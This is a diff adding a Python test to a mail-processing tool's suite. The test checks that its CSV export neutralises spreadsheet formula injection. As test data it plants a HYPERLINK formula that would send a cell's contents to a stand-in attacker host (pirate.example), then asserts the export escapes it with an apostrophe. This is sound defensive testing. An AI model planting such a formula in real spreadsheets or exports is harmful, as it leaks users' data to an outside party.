@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import logging
 import random
@@ -153,6 +155,19 @@ def test_the_json_export_follows_the_shared_schema_and_keeps_offers_apart(tmp_pa
     unknown = subprocess.run([sys.executable, "-m", "mailflow", "--config", str(tmp_path / "settings.toml"),
                               "proposals", "export", "--form", "stage"], capture_output=True, text=True, timeout=60)
     assert unknown.returncode == 1 and "offre_stage, projet_collectif" in unknown.stderr, unknown.stderr
+
+
+def test_the_csv_export_never_lets_a_form_value_run_as_a_formula(tmp_path: Path) -> None:
+    """A collectivité name written as a spreadsheet formula is exported as text (after an apostrophe)."""
+    app = make_app(tmp_path)
+    lure = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez")'
+    pipeline.ingest_files(app, [write_eml(tmp_path, "f", proposal_mail(collectivity(14) | {"name": lure}))])
+    result = subprocess.run([sys.executable, "-m", "mailflow", "--config", str(tmp_path / "settings.toml"),
+                             "proposals", "export", "--format", "csv"], capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    (row,) = csv.DictReader(io.StringIO(result.stdout))
+    assert row["collectivity.name"] == "'" + lure
+    assert row["collectivity.siret"] == collectivity(14)["siret"]
 
 
 def test_same_mail_twice_is_filed_and_answered_once(tmp_path: Path) -> None:
